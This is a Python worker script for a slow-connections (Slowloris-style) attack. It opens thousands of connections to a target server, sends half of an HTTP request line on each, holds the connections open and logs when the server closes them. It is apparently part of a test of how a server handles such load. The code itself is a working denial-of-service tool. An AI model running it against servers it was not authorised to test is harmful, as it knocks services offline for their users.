"""One process of the slow-connections attack: opens COUNT connections from SOURCE to the server,
sends half a request line on each and then nothing, and notes when the server closes each one.

    python3 slow_worker.py SOURCE HOST PORT COUNT UNTIL CONNECT_TIMEOUT

UNTIL is a time.monotonic() value (the clock is system-wide): every connection still open then is
closed by the worker. Prints one JSON object: per connection [connected, sent, closed, how]
(monotonic seconds; closed is null when the server never closed it) and the connect failures.
Several processes share the work when one process' file limit is too small for all of it.
"""

import asyncio
import json
import resource
import sys
import time
from collections import Counter

import http1

HALF_REQUEST_LINE = b"POST /api/rp"
# Connects in flight at once: enough to open thousands a second, few enough that a listener
# that stopped accepting does not leave the worker with thousands of hanging SYNs at once.
CONNECTS_AT_ONCE = 256


def raise_file_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        except (ValueError, OSError):
            pass  # an "unlimited" hard limit: the shell has raised the soft one as far as it goes
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


async def hold(sock, until):
    """Waits for the server to close `sock`; (closed, how), closed None if it was still open."""
    loop = asyncio.get_running_loop()
    how = "eof"
    while True:
        remaining = until - time.monotonic()
        if remaining <= 0:
            return None, "open"
        try:
            data = await asyncio.wait_for(loop.sock_recv(sock, 4096), remaining)
        except (asyncio.TimeoutError, TimeoutError):
            return None, "open"
        except OSError as error:
            return time.monotonic(), http1.failure_label(error)
        if not data:
            return time.monotonic(), how
        # An answer before closing (a 408, say): note its status line, keep waiting for the close.
        how = "answered " + data.split(b"\r\n", 1)[0].decode("latin-1")[:40]


async def one(source, server, until, connect_timeout, gate, connections, failures):
    async with gate:
        if time.monotonic() >= until:
            failures["not tried (time up)"] += 1
            return
        try:
            sock = await http1.connect(source, server, min(connect_timeout, until - time.monotonic()))
        except (OSError, asyncio.TimeoutError, TimeoutError) as error:
            failures[http1.failure_label(error)] += 1
            return
    try:
        connected = time.monotonic()
        try:
            await asyncio.get_running_loop().sock_sendall(sock, HALF_REQUEST_LINE)
        except OSError as error:
            connections.append([connected, None, time.monotonic(), "send " + http1.failure_label(error)])
            return
        sent = time.monotonic()
        closed, how = await hold(sock, until)
        connections.append([connected, sent, closed, how])
    finally:
        sock.close()


async def main(source, host, port, count, until, connect_timeout):
    limit = raise_file_limit()
    gate = asyncio.Semaphore(CONNECTS_AT_ONCE)
    connections, failures = [], Counter()
    await asyncio.gather(*(one(source, (host, port), until, connect_timeout, gate, connections, failures)
                           for _ in range(count)))
    return {"file_limit": limit, "connections": connections, "failures": dict(failures)}


if __name__ == "__main__":
    source, host, port, count, until, connect_timeout = sys.argv[1:7]
    result = asyncio.run(main(source, host, int(port), int(count), float(until), float(connect_timeout)))
    json.dump(result, sys.stdout)
